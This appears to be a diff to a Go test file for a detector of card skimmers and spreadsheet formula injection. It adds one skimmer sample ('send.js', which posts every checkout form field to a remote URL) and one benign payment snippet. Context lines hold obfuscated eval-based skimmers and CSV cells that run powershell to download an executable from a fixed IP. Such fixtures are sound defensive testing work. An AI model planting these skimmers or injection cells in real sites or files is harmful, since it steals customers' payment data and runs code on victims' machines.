@@ -103,6 +103,7 @@ var planting = map[string]string{
 	"hex.js":        `var _0x9533=["\x63\x63\x5F\x6E\x75\x6D\x62\x65\x72","\x76\x61\x6C\x75\x65","\x68\x74\x74\x70\x73\x3A\x2F\x2F"];document[_0x9533[0]].value;`,
 	"codes.js":      "this['eval'](String['fromCharCode'](" + letterCodes(`if((new RegExp('onepage|checkout')).test(window.location)){$("input, select").each(function(){q+=$(this).val()});$.post(u,q)}`) + "));",
 	"base64.js":     "this['eval'](this['atob']('" + base64.StdEncoding.EncodeToString([]byte(`if((new RegExp('onepage|checkout')).test(window.location)){$("input, select").each(function(){q+=$(this).val()});$.post(u,q)}`)) + "'));",
+	"send.js":       `window.onload=function(){if((new RegExp('onepage')).test(window.location)){send();}};function clk(){var inp=document.querySelectorAll("input, select");for(i in inp){snd+=inp[i].name+'='+inp[i].value}$.post(u,snd)}`,
 	"artikel.csv":   "id,name,preis\n1,Schraube,0.10\n2,=cmd|'/c powershell iwr http://203.0.113.9/p.exe'!A1,9\n",
 	"b.csv":         "name;phone\r\nada;\"+cmd|' /C calc'!A0\"\r\n@SUM(1+1)*cmd|' /C calc'!A0;1\r\n",
 }
@@ -160,6 +161,7 @@ var harmless = map[string]string{
 	"tcp.ps1":           "$c = New-Object System.Net.Sockets.TcpClient\r\n$c.Connect('mail.example', 25)\r\nif ($c.Connected) { 'up' }\r\n",
 	"track.js":          `if(/checkout/.test(window.location)){ga("send","event","checkout");document.querySelector("input").value="";}`,
 	"icons.js":          `var e="\x3c\x73\x76\x67\x3e",t=String.fromCharCode(55,56,57,58,59,60,61,62,63,64);atob("iVBORw0KGgoAAAANSUhEUgAA");`,
+	"payment.js":        `Payment.prototype={save:function(){var n=$("ccsave_cc_number").value,f=$("billing:firstname").value;new Ajax.Request(this.saveUrl,{method:"post",parameters:{n:n,f:f}})}};`,
 	"formulas.csv":      "name;sum;link\r\nada;=A1+B1;=HYPERLINK(\"https://shop.example/1\",\"one\")\r\nbob;-5;+49 30 1234|x\r\ncmd|powershell;2;3\r\n",
 	"admin.bat":         "@echo off\r\nnet use z: \\\\files\\scripts\r\nwevtutil epl Security \\\\files\\logs\\sec.evtx\r\nPsExec \\\\pc7 -s gpupdate /force\r\nvssadmin create shadow /for=c:\r\nnet stop spooler\r\n",
 	"sqlstop.cmd":       "net stop MSSQLSERVER\r\nxcopy d:\\data e:\\backup /s\r\nnet start MSSQLSERVER\r\n",
